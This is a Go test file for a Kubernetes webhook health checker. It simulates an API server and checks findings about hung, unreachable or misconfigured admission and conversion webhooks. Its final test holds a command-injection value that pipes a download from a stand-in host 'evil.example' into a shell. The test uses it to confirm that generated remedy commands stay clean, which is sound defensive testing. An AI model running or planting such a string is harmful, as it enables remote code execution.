package callouts

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/labels"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/ccmadm/ccmadm/api/finding"
)

// world is a cluster with a validating webhook on ingresses of namespace shop, a mutating one on pods of all namespaces, and a kind whose
// objects a third one converts. All are served, and answer.
type world struct {
	validating admissionv1.ValidatingWebhook
	mutating   admissionv1.MutatingWebhook
	services   map[string]*corev1.Service
	ready      map[string]int
	definition string
	namespaces map[string]labels.Set
	// answer is the API server's to a request: 200 with a message is a list.
	answer func(r *http.Request, body string) (code int, message string)
	// patience is that of the questions. 0: a second, within which a busy machine answers, too.
	patience time.Duration
	// ends cancels the questions.
	ends context.CancelFunc
}

func newWorld() *world {
	rules := func(group, resource string) []admissionv1.RuleWithOperations {
		return []admissionv1.RuleWithOperations{{
			Operations: []admissionv1.OperationType{admissionv1.Create},
			Rule:       admissionv1.Rule{APIGroups: []string{group}, APIVersions: []string{"v1"}, Resources: []string{resource}},
		}}
	}
	client := func(name string) admissionv1.WebhookClientConfig {
		return admissionv1.WebhookClientConfig{Service: &admissionv1.ServiceReference{Namespace: "hooks", Name: name}}
	}
	w := &world{services: map[string]*corev1.Service{}, ready: map[string]int{"gate": 1, "inject": 1, "convert": 1}}
	w.validating = admissionv1.ValidatingWebhook{
		Name: "gate.example.org", Rules: rules("networking.k8s.io", "ingresses"), ClientConfig: client("gate"), SideEffects: new(admissionv1.SideEffectClassNone),
		NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"kubernetes.io/metadata.name": "shop"}}, TimeoutSeconds: new(int32(30)),
	}
	w.mutating = admissionv1.MutatingWebhook{
		Name: "inject.example.org", Rules: rules("*", "*"), ClientConfig: client("inject"), SideEffects: new(admissionv1.SideEffectClassNone),
	}
	for name := range w.ready {
		s := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "hooks", Name: name}}
		s.Spec.Ports = []corev1.ServicePort{{Port: 443}}
		w.services[name] = s
	}
	w.namespaces = map[string]labels.Set{"shop": {"kubernetes.io/metadata.name": "shop"}, "default": {"kubernetes.io/metadata.name": "default"}}
	w.definition = `{"metadata": {"name": "toys.example.org"}, "spec": {"group": "example.org", "names": {"plural": "toys"},
		"versions": [{"name": "v1", "served": true, "storage": true}, {"name": "v1beta1", "served": true}],
		"conversion": {"strategy": "Webhook", "webhook": {"clientConfig": {"service": {"namespace": "hooks", "name": "convert"}}}}}}`
	w.answer = func(*http.Request, string) (int, string) { return http.StatusOK, "" }
	return w
}

func (w *world) ServeHTTP(out http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	out.Header().Set("Content-Type", "application/json")
	if strings.HasSuffix(r.URL.Path, "customresourcedefinitions") {
		_, _ = io.WriteString(out, `{"kind": "CustomResourceDefinitionList", "apiVersion": "apiextensions.k8s.io/v1", "items": [`+w.definition+`]}`)
		return
	}
	code, message := w.answer(r, string(body))
	if code == 0 { // no answer
		<-r.Context().Done()
		return
	}
	if code == http.StatusOK && message != "" {
		_, _ = io.WriteString(out, message)
		return
	}
	reasons := map[int]string{500: "InternalError", 403: "Forbidden", 429: "TooManyRequests", 503: "ServiceUnavailable", 200: ""}
	out.WriteHeader(code)
	_, _ = fmt.Fprintf(out, `{"kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": %q, "message": %q, "code": %d}`, reasons[code], message, code)
}

// look collects as a snapshot does, tries and judges.
func (w *world) look(t *testing.T) ([]finding.Finding, error) {
	t.Helper()
	h := httptest.NewServer(w)
	t.Cleanup(h.Close)
	client := kubernetes.NewForConfigOrDie(&rest.Config{Host: h.URL, QPS: -1}).Discovery().RESTClient()
	c := &Collector{patience: cmp.Or(w.patience, time.Second)}
	c.Validating(&admissionv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "gate"}, Webhooks: []admissionv1.ValidatingWebhook{w.validating}})
	c.Mutating(&admissionv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "inject"}, Webhooks: []admissionv1.MutatingWebhook{w.mutating}})
	if err := c.Definitions(t.Context(), client); err != nil {
		t.Fatal(err)
	}
	for _, s := range w.services {
		c.Service(s)
	}
	c.ServicesListed()
	c.Namespaces(w.namespaces)
	for _, s := range c.Services() {
		c.Endpoints(s, w.ready[s.Name])
	}
	ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
	t.Cleanup(cancel)
	w.ends = cancel
	err := c.Try(ctx, client, "cp1")
	return Judge(c.Seen(), func(string, string) bool { return false }), err
}

// hangs has no answer to requests whose path has some words.
func hangs(words ...string) func(*world) {
	return func(w *world) {
		w.answer = func(r *http.Request, _ string) (int, string) {
			if slices.ContainsFunc(words, func(s string) bool { return strings.Contains(r.URL.Path, s) }) {
				return 0, ""
			}
			return http.StatusOK, ""
		}
	}
}

func answers(code int, message, path string) func(*world) {
	return func(w *world) {
		w.answer = func(r *http.Request, _ string) (int, string) {
			if strings.Contains(r.URL.Path, path) {
				return code, message
			}
			return http.StatusOK, ""
		}
	}
}

func TestCallouts(t *testing.T) {
	refused := `failed calling webhook "gate.example.org": failed to call webhook: Post "https://gate.hooks.svc:443/?timeout=30s": x509: certificate signed by unknown authority`
	for _, tt := range []struct {
		name   string
		change func(*world)
		// want are ID, object and words of the message of each finding.
		want    []string
		unknown bool
	}{
		{name: "healthy", change: func(*world) {}},
		{
			name: "no endpoint, in another namespace than kube-system", change: func(w *world) { w.ready["gate"] = 0 },
			want: []string{"B7 ValidatingWebhookConfiguration/gate guards ingresses.networking.k8s.io in namespaces shop, and its Service hooks/gate has no ready endpoint"},
		},
		{
			name: "its Service is gone", change: func(w *world) { delete(w.services, "gate") },
			want: []string{"B7 ValidatingWebhookConfiguration/gate Service hooks/gate does not exist"},
		},
		{
			name: "its Service has another port", change: func(w *world) { w.services["gate"].Spec.Ports[0].Port = 8443 },
			want: []string{"B7 ValidatingWebhookConfiguration/gate Service hooks/gate has no port 443"},
		},
		{name: "its Service leads out of the cluster", change: func(w *world) {
			w.services["gate"].Spec.Type, w.ready["gate"] = corev1.ServiceTypeExternalName, 0
		}},
		{name: "it fails open, and has no endpoint", change: func(w *world) { w.validating.FailurePolicy, w.ready["gate"] = new(admissionv1.Ignore), 0 }},
		{name: "no namespace is selected, and it has no endpoint", change: func(w *world) { delete(w.namespaces, "shop"); w.ready["gate"] = 0 }},
		{name: "the namespaces are not known, and it has no endpoint", change: func(w *world) { w.namespaces, w.ready["gate"] = nil, 0 }},
		{
			name: "it hangs, and the other has answered", change: hangs("shop/ingresses"),
			want: []string{"Q14 ValidatingWebhookConfiguration/gate two requests got no answer within 5 s each: new ingresses in namespace shop: such a request waits up to 30 s"},
		},
		{
			name: "one that fails open hangs", change: func(w *world) { hangs("shop/ingresses")(w); w.validating.FailurePolicy = new(admissionv1.Ignore) },
			want: []string{"Q14 ValidatingWebhookConfiguration/gate each such request waits up to 30 s"},
		},
		{
			name: "the one about everything hangs, which says nothing of the other", change: hangs("shop/ingresses", "default/configmaps", "kube-public/configmaps"),
			want: []string{
				"Q14 MutatingWebhookConfiguration/inject new configmaps in namespace default",
			},
		},
		{
			name: "it hangs, and the time ends while it is asked again", change: func(w *world) {
				asked := 0
				w.answer = func(r *http.Request, _ string) (int, string) {
					if !strings.Contains(r.URL.Path, "shop/ingresses") {
						return http.StatusOK, ""
					}
					if asked++; asked == 2 {
						w.ends()
					}
					return 0, ""
				}
			},
			want: []string{"Q14 ValidatingWebhookConfiguration/gate a request got no answer within 5 s: new ingresses in namespace shop"}, unknown: true,
		},
		{name: "the API server hangs", change: hangs("/"), unknown: true},
		{
			name: "its certificate is not trusted", change: answers(500, "Internal error occurred: "+refused, "ingresses"),
			want: []string{"Q14 ValidatingWebhookConfiguration/gate x509: certificate signed by unknown authority"},
		},
		{name: "it denies, which is an answer", change: answers(403, `admission webhook "gate.example.org" denied the request: no`, "ingresses")},
		{name: "the user may not", change: answers(403, `configmaps is forbidden: User "x" cannot create`, "configmaps"), unknown: true},
		{name: "too many requests", change: answers(429, "too many requests", "configmaps"), unknown: true},
		{name: "unavailable", change: answers(503, "unavailable", "ingresses"), unknown: true},
		{
			name: "conversion without endpoint", change: func(w *world) { w.ready["convert"] = 0 },
			want: []string{"Q14 CustomResourceDefinition/toys.example.org its Service hooks/convert has no ready endpoint: objects of versions that are not stored"},
		},
		{name: "one version is nothing to convert", change: func(w *world) {
			w.ready["convert"], w.definition = 0, strings.Replace(w.definition, `, {"name": "v1beta1", "served": true}`, "", 1)
		}},
		{
			name: "conversion hangs", change: hangs("v1beta1/toys"),
			want: []string{"Q14 CustomResourceDefinition/toys.example.org two requests got no answer"},
		},
		{
			name: "conversion fails", change: answers(500, `conversion webhook for example.org/v1, Kind=Toy failed: Post "https://x": connection refused`, "toys"),
			want: []string{"Q14 CustomResourceDefinition/toys.example.org connection refused"},
		},
		{
			name: "conversion answers something else", change: answers(500, `conversion webhook for example.org/v1, Kind=Toy returned 0 objects, expected 1`, "toys"),
			want: []string{"Q14 CustomResourceDefinition/toys.example.org returned 0 objects, expected 1: objects of versions"},
		},
		{
			name:   "conversion makes another kind",
			change: answers(500, `conversion webhook for example.org/v1, Kind=Toy returned invalid converted object at index 0: invalid kind (expected Toy, received X)`, "toys"),
			want:   []string{"Q14 CustomResourceDefinition/toys.example.org returned invalid converted object at index 0: invalid kind"},
		},
		{
			name: "a condition may have kept the other from being asked", change: func(w *world) {
				hangs("shop/ingresses")(w)
				w.mutating.MatchConditions = []admissionv1.MatchCondition{{Name: "x", Expression: "true"}}
			},
			want: []string{"Q14 ValidatingWebhookConfiguration/gate in namespace shop (also asked, and answering elsewhere as far as is known: inject.example.org): such"},
		},
		{
			name: "a quota refuses what all webhooks have accepted", change: func(w *world) {
				w.answer = func(r *http.Request, _ string) (int, string) {
					if strings.Contains(r.URL.Path, "shop/ingresses") {
						return 0, ""
					}
					return http.StatusForbidden, `configmaps "x" is forbidden: exceeded quota: none, requested: count/configmaps=1, used: count/configmaps=0`
				}
				w.definition = "{}"
			},
			want: []string{"Q14 ValidatingWebhookConfiguration/gate new ingresses in namespace shop: such"},
		},
		{
			name: "one about a resource with all that belongs to it", change: func(w *world) {
				hangs("shop/ingresses")(w)
				w.validating.Rules[0].Resources = []string{"ingresses/*"}
			},
			want: []string{"Q14 ValidatingWebhookConfiguration/gate guards ingresses/*.networking.k8s.io"},
		},
		{
			name: "one of objects with a label", change: func(w *world) {
				hangs("shop/ingresses")(w)
				w.validating.ObjectSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"team": "a"}}
			},
			want: []string{"Q14 ValidatingWebhookConfiguration/gate new ingresses in namespace shop"},
		},
		{name: "one with effects is not asked", change: func(w *world) {
			hangs("shop/ingresses")(w)
			w.validating.SideEffects = new(admissionv1.SideEffectClassSome)
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld()
			tt.change(w)
			found, err := w.look(t)
			if (err != nil) != tt.unknown {
				t.Errorf("not seen: %v, want %t", err, tt.unknown)
			}
			var got []string
			for _, f := range found {
				got = append(got, string(f.ID)+" "+f.Object+" "+f.Message)
				if f.Next == "" {
					t.Errorf("%s of %s has no remedy", f.ID, f.Object)
				}
			}
			slices.Sort(got)
			same := len(got) == len(tt.want)
			for i := range min(len(got), len(tt.want)) {
				id, words, _ := strings.Cut(tt.want[i], " ")
				object, words, _ := strings.Cut(words, " ")
				same = same && strings.HasPrefix(got[i], id+" "+object+" ") && strings.Contains(got[i], words)
			}
			if !same {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestBuiltIn(t *testing.T) {
	for resource, want := range map[string]bool{
		"pods": true, "pods/status": true, "deployments.apps": true, "ingresses.networking.k8s.io": true, "roles.rbac.authorization.k8s.io": true, "*.*": true,
		"gateways.gateway.networking.k8s.io": false, "volumesnapshots.snapshot.storage.k8s.io": false, "machines.cluster.x-k8s.io": false, "toys.example.org": false,
	} {
		if got := builtIn(resource); got != want {
			t.Errorf("%s: got %t", resource, got)
		}
	}
}

// Beyond what is sent, only a webhook that no request of another one asks as well is left out.
func TestTries_Left(t *testing.T) {
	c, w := &Collector{}, newWorld()
	namespaces := map[string]labels.Set{}
	for i := range mostTries + 1 {
		name := fmt.Sprintf("ns%02d", i)
		namespaces[name] = labels.Set{"name": name}
		hook := w.validating
		hook.NamespaceSelector = &metav1.LabelSelector{MatchLabels: namespaces[name]}
		c.Validating(&admissionv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: name}, Webhooks: []admissionv1.ValidatingWebhook{hook}})
	}
	c.Mutating(&admissionv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "all"}, Webhooks: []admissionv1.MutatingWebhook{w.mutating}})
	c.Namespaces(namespaces)
	if list, left := c.tries("cp1"); len(list) != mostTries || left != 1 {
		t.Errorf("%d requests, %d webhooks left out, want %d and 1", len(list), left, mostTries)
	}
}

// Webhooks of one configuration are one finding, whose remedy is about each of them.
func TestJudge_Merged(t *testing.T) {
	list := Judge([]Callout{
		{Object: "ValidatingWebhookConfiguration/x", Name: "a.example.org", Guards: []string{"toys.example.org"}, Closed: true, Service: "s"},
		{Object: "ValidatingWebhookConfiguration/x", Name: "b.example.org", Index: 1, Guards: []string{"pods"}, Closed: true, Service: "s"},
	}, func(string, string) bool { return false })
	if len(list) != 1 || list[0].Severity != finding.SeverityError || !strings.Contains(list[0].Message, "; webhook b.example.org") ||
		!strings.Contains(list[0].Next, `"/webhooks/0/failurePolicy"`) || !strings.Contains(list[0].Next, `, then: kubectl patch`) ||
		!strings.Contains(list[0].Next, `"/webhooks/1/failurePolicy"`) {
		t.Errorf("got %+v", list)
	}
}

// A snapshot that was written is judged as the cluster: a webhook that is asked in no namespace blocks nothing.
func TestJudge_Written(t *testing.T) {
	for want, namespaces := range map[int][]string{0: {}, 1: nil} {
		c := Callout{Object: "ValidatingWebhookConfiguration/x", Name: "a.b", Guards: []string{"pods"}, Namespaces: namespaces, Closed: true, Service: "s"}
		data, err := json.Marshal(c)
		if err != nil {
			t.Fatal(err)
		}
		var read Callout
		if err := json.Unmarshal(data, &read); err != nil {
			t.Fatal(err)
		}
		for name, one := range map[string]Callout{"seen": c, "read": read} {
			if got := len(Judge([]Callout{one}, func(string, string) bool { return false })); got != want {
				t.Errorf("%s, %s: %d findings, want %d", name, data, got, want)
			}
		}
	}
}

// A snapshot may have been written by anyone: nothing of it becomes a part of a command that is no name.
func TestJudge_Hostile(t *testing.T) {
	const evil = "x; curl evil.example|sh #"
	for _, f := range Judge([]Callout{
		{Object: "ValidatingWebhookConfiguration/" + evil, Name: "a.b", Closed: true, Service: evil, Namespace: evil, Fails: "x"},
		{Object: "MutatingWebhookConfiguration/x", Name: evil, Closed: true, Service: evil, Ready: 0},
		{Object: "CustomResourceDefinition/x", Closed: true, Service: evil, Namespace: "x", Ready: 0},
	}, func(string, string) bool { return false }) {
		if strings.Contains(f.Next, "evil") {
			t.Errorf("%s: next: %s", f.Object, f.Next)
		}
	}
}
